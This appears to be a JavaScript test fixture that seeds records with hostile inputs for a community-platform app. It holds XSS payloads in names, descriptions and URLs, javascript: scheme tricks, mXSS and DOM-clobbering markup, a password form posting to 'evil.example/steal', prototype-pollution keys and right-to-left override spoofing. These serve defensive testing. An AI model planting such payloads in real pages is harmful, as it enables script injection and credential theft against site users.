// Records carrying the bad inputs of shared/hostile-inputs.md §3 (rows 1–36). They are only added with
// `hostile: true`, all under source.keys ["hostile"] and in Saint-Denis (97411), so a test can fetch
// exactly them with `sourceKey[]=hostile` and look each one up by the id exported in `hostileCases`.
import { MongoDate, MongoId } from '../lib/php.mjs';
import { DAY } from '../lib/dates.mjs';

export const HOSTILE_SOURCE_KEY = 'hostile';

/**
 * @typedef {object} HostileCase
 * @property {string} id
 * @property {string} collection
 * @property {number} row row of hostile-inputs.md §3
 * @property {string} label short name usable in test titles
 * @property {string} field the field carrying the bad value
 */

/**
 * @param {{ newId: (created: number) => string, nowSec: number, city: any, persons: any[], organizer?: any }} context
 */
export function buildHostileRecords({ newId, nowSec, city, persons, organizer }) {
  /** @type {{ col: string, doc: Record<string, any> }[]} */
  const records = [];
  /** @type {HostileCase[]} */
  const cases = [];
  const postal = city.seed.postalCodes[0];
  const address = {
    '@type': 'PostalAddress', codeInsee: city.seed.insee, addressCountry: city.country, postalCode: postal.postalCode,
    addressLocality: city.seed.name, streetAddress: '1 rue de la Faille', localityId: city.id,
    level1: city.level1.id, level1Name: city.level1.name, level3: city.level3.id, level3Name: city.level3.name,
    level4: city.level4.id, level4Name: city.level4.name,
  };
  const goodGeo = () => ({ geo: { '@type': 'GeoCoordinates', latitude: '-20.8821', longitude: '55.4507' }, geoPosition: { type: 'Point', coordinates: [55.4507, -20.8821] } });
  let counter = 0;
  const inWeek = nowSec + 7 * DAY + 18 * 3600;

  /**
   * @param {string} col
   * @param {number} row
   * @param {string} label
   * @param {string} field
   * @param {Record<string, any>} fields the hostile fields; they override the sane defaults below
   */
  const add = (col, row, label, field, fields) => {
    const created = nowSec - (800 + counter) * DAY;
    const id = newId(created);
    counter++;
    const base = { _id: new MongoId(id), name: `Cas hostile ${row} — ${label}` };
    if (col === 'organizations') base.type = 'NGO';
    if (col === 'events') Object.assign(base, { type: 'workshop', startDate: new MongoDate(inWeek), endDate: new MongoDate(inWeek + 7200), allDay: false, timeZone: 'Indian/Reunion' });
    if (col === 'classifieds') Object.assign(base, { type: 'classifieds', section: 'forsale', category: 'home', subtype: 'various', price: 10, devise: '€' });
    const doc = {
      ...base,
      slug: `casHostile${row}${label.replace(/[^a-z0-9]/gi, '').slice(0, 20)}${counter}`,
      shortDescription: `Cas de test n°${row} : ${label}.`,
      tags: ['hostile'],
      address: { ...address },
      ...goodGeo(),
      created,
      // Spread over two years so the hostile records sit among ordinary ones in "updated" order.
      updated: nowSec - counter * 13 * DAY - 3600,
      creator: persons[0].id,
      preferences: { isOpenData: true, isOpenEdition: false },
      source: { insertOrign: 'import', key: HOSTILE_SOURCE_KEY, keys: [HOSTILE_SOURCE_KEY] },
    };
    for (const [key, value] of Object.entries(fields)) {
      if (value === undefined) delete doc[key];
      else doc[key] = value;
    }
    if (col === 'events' && organizer) {
      doc.organizerId = organizer.id;
      doc.organizerType = 'organizations';
      doc.organizer = { [organizer.id]: { type: 'organizations', name: organizer.doc.name } };
      doc.links = { organizer: { [organizer.id]: { type: 'organizations' } } };
    }
    if (col === 'classifieds') {
      doc.parentId = persons[1].id;
      doc.parentType = 'citoyens';
    }
    records.push({ col, doc });
    cases.push({ id, collection: col, row, label, field });
    return doc;
  };

  // Rows 1–2: markup in a name must stay text.
  add('organizations', 1, 'name-img-onerror', 'name', { name: '<img src=x onerror=alert(1)>' });
  add('organizations', 2, 'name-script-close', 'name', { name: '</script><script>alert(1)</script>' });
  // Rows 3–16: hostile rich text.
  add('organizations', 3, 'description-img-onerror', 'description', { description: '<p>Bienvenue</p><img src=x onerror=alert(2)>', descriptionHTML: true });
  add('organizations', 4, 'description-javascript-link', 'description', { description: '<p>Voir <a href="javascript:alert(1)">x</a></p>', descriptionHTML: true });
  for (const [index, trick] of [' JaVaScRiPt:alert(1)', 'java&#x09;script:alert(1)', '\u0000javascript:alert(1)', '&#106;avascript:alert(1)'].entries()) {
    add('organizations', 5, `scheme-trick-${index + 1}`, 'url+description', {
      url: trick,
      description: `<p><a href="${trick}">lien piégé</a></p>`,
      descriptionHTML: true,
    });
  }
  add('organizations', 6, 'url-javascript', 'url', { url: 'javascript:alert(document.domain)' });
  add('organizations', 7, 'url-data', 'url', { url: 'data:text/html,<script>alert(7)</script>' });
  add('organizations', 7, 'url-vbscript', 'url', { url: 'vbscript:msgbox(7)' });
  add('organizations', 7, 'url-file', 'url', { url: 'file:///etc/passwd' });
  add('organizations', 8, 'url-without-scheme', 'url', { url: 'www.mairie.fr', name: 'Mairie (site sans schéma)' });
  add('organizations', 9, 'url-idn-lookalike', 'url', { url: 'https://c\u043emmunecter.org/connexion' });
  add('organizations', 10, 'description-fixed-overlay', 'description', { description: '<div style="position:fixed;inset:0;background:#c00;z-index:2147483647">Votre session a expiré</div>', descriptionHTML: true });
  add('organizations', 11, 'description-phishing-form', 'description', { description: '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Se reconnecter</button></form>', descriptionHTML: true });
  add('organizations', 12, 'description-tracking-pixel', 'description', { description: '<p>Merci !</p><img src="https://tracker.example/p.gif?u=1" width="1" height="1">', descriptionHTML: true });
  add('organizations', 13, 'description-svg-xlink', 'description', { description: '<svg><a xlink:href="javascript:alert(13)"><text x="20" y="20">clic</text></a></svg>', descriptionHTML: true });
  add('organizations', 14, 'description-mxss', 'description', {
    description: '<noscript><p title="</noscript><img src=x onerror=alert(14)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(141)></style></mglyph></table></mtext></math>',
    descriptionHTML: true,
  });
  add('organizations', 15, 'description-dom-clobbering', 'description', { description: '<p id="__proto__" name="getElementById">clobber</p><form id="x"><input name="attributes"></form>', descriptionHTML: true });
  add('organizations', 16, 'markdown-javascript-link', 'description', { description: '## Titre\n[clic](javascript:alert(16)) et <img src=x onerror=alert(161)> en HTML brut\n\n<script>alert(162)</script>' });
  // Rows 17–19: wrong types and prototype keys.
  add('organizations', 17, 'name-lit-template-object', 'name', { name: { _$litType$: 1, strings: ['<img src=x onerror=alert(17)>'], values: [] } });
  add('organizations', 18, 'name-object-tostring', 'name', { name: { toString: 'x' } });
  add('organizations', 18, 'name-number', 'name', { name: 42 });
  add('organizations', 18, 'name-array', 'name', { name: ['a', 'b'] });
  add('organizations', 19, 'proto-keys', 'tags+socialNetwork', {
    tags: ['__proto__', 'constructor', 'prototype', 'hostile'],
    socialNetwork: JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"facebook":"https://www.facebook.com/x"}'),
  });
  // Rows 20–25: coordinates.
  add('organizations', 20, 'geo-strings', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: '-20.8821', longitude: '55.4507' }, geoPosition: undefined });
  add('organizations', 21, 'geo-french-comma', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: '-20,8821', longitude: '55,4507' }, geoPosition: undefined });
  add('organizations', 22, 'geo-empty-string', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: '', longitude: '' }, geoPosition: undefined });
  add('organizations', 22, 'geo-null', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: null, longitude: null }, geoPosition: undefined });
  add('organizations', 22, 'geo-missing', 'geo', { geo: undefined, geoPosition: undefined });
  add('organizations', 23, 'geo-out-of-range', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: 123, longitude: 500 }, geoPosition: { type: 'Point', coordinates: [500, 123] } });
  add('organizations', 24, 'geo-nan-infinity', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: 'NaN', longitude: 'Infinity' }, geoPosition: undefined });
  add('organizations', 24, 'geo-exponent-hex', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: '1e3', longitude: '0x10' }, geoPosition: undefined });
  add('organizations', 24, 'geo-booleans', 'geo', { geo: { '@type': 'GeoCoordinates', latitude: true, longitude: false }, geoPosition: undefined });
  add('organizations', 25, 'geo-swapped', 'geo+geoPosition', { geo: { '@type': 'GeoCoordinates', latitude: '55.4507', longitude: '-20.8821' }, geoPosition: { type: 'Point', coordinates: [-20.8821, 55.4507] } });
  // Rows 27–30: dates, on events (search passes non-MongoDate values through untouched).
  const rawDates = (startDate, endDate) => ({ startDate, endDate });
  add('events', 27, 'date-space-no-zone', 'startDate', rawDates('2026-05-17 10:00:00', '2026-05-17 12:00:00'));
  add('events', 28, 'date-feb-30', 'startDate', rawDates('2026-02-30', '2026-02-30'));
  add('events', 28, 'date-garbage', 'startDate', rawDates('foo', 'bar'));
  add('events', 28, 'date-empty', 'startDate', rawDates('', ''));
  add('events', 29, 'end-before-start', 'endDate', rawDates(new MongoDate(inWeek + 86400), new MongoDate(inWeek)));
  add('events', 29, 'all-day-date-only', 'startDate', { ...rawDates('2026-05-17', '2026-05-17'), allDay: true });
  add('events', 30, 'epoch-seconds', 'startDate', rawDates(1747468800, 1747476000));
  add('events', 30, 'epoch-milliseconds', 'startDate', rawDates(1747468800000, 1747476000000));
  add('events', 30, 'mongo-sec-object', 'startDate', rawDates({ sec: 1747468800, usec: 0 }, { sec: 1747476000, usec: 0 }));
  // Rows 31–34: sizes and Unicode.
  const longWord = 'Anticonstitutionnellement'.repeat(200);
  add('organizations', 31, 'name-100kB', 'name', { name: `Association ${'très '.repeat(20000)}longue` });
  add('organizations', 31, 'description-5000-char-word', 'description', { description: `Début ${longWord.slice(0, 5000)} fin.` });
  add('organizations', 31, 'description-10000-br', 'description', { description: `<p>${'<br>'.repeat(10000)}</p>`, descriptionHTML: true });
  add('organizations', 32, 'name-rtl', 'name', { name: 'مركز ثقافي' });
  add('organizations', 32, 'name-rlo-override', 'name', { name: 'Association \u202Egnp.exe\u202C Solidarité' });
  add('organizations', 33, 'name-emoji-combining', 'name', { name: '👩🏽‍🚒 Pompières de Saint-Denis — Cafe\u0301 des e\u0301quipes' });
  add('organizations', 33, 'name-lone-surrogate', 'name', { name: 'Brisé \uD800 au milieu' });
  add('organizations', 34, 'tags-zero-width-control', 'tags', { tags: ['\u200B', '\u0000', ' fablab ', 'FabLab', 'fablab', 'fab\u200Blab', '', 'hostile'] });
  // Row 35: images.
  add('organizations', 35, 'image-http-mixed-content', 'profilImageUrl', {
    profilImageUrl: 'http://insecure.example.org/logo.png', profilThumbImageUrl: 'http://insecure.example.org/thumb.png',
    profilMediumImageUrl: 'http://insecure.example.org/medium.png',
  });
  add('organizations', 35, 'image-404', 'profilImageUrl', {
    profilImageUrl: '/upload/communecter/organizations/000000000000000000000000/absent.png',
    profilThumbImageUrl: '/upload/communecter/organizations/000000000000000000000000/thumb/profil-resized.png',
  });
  // Row 36: prices.
  add('classifieds', 36, 'price-gratuit', 'price', { price: 'gratuit' });
  add('classifieds', 36, 'price-negative', 'price', { price: -5 });
  add('classifieds', 36, 'price-1e308', 'price', { price: 1e308 });
  // Row 32 again, added after the others so no earlier id moves: directional controls left open or
  // closing what the string never opened, in every field a widget puts beside its own words.
  add('organizations', 32, 'name-rlo-unterminated', 'name', { name: 'Association \u202Eeniatnof al ed' });
  add('organizations', 32, 'name-stray-pdi-then-rlo', 'name', { name: 'Club\u2069\u202E sprahcs' });
  add('organizations', 32, 'name-rli-open', 'name', { name: '\u2067جمعية الحي' });
  add('organizations', 32, 'locality-rlo', 'address', { address: { ...address, addressLocality: 'Saint-\u202Esinned' } });
  add('organizations', 32, 'tags-rlo', 'tags', { tags: ['\u202Etsilbah', 'hostile'] });
  add('events', 32, 'event-name-rlo-unterminated', 'name', { name: 'Atelier \u202Eeuqinhcet' });
  add('classifieds', 32, 'ad-name-rlo-unterminated', 'name', { name: 'Vélo \u202Eodnev à' });

  return { records, cases };
}
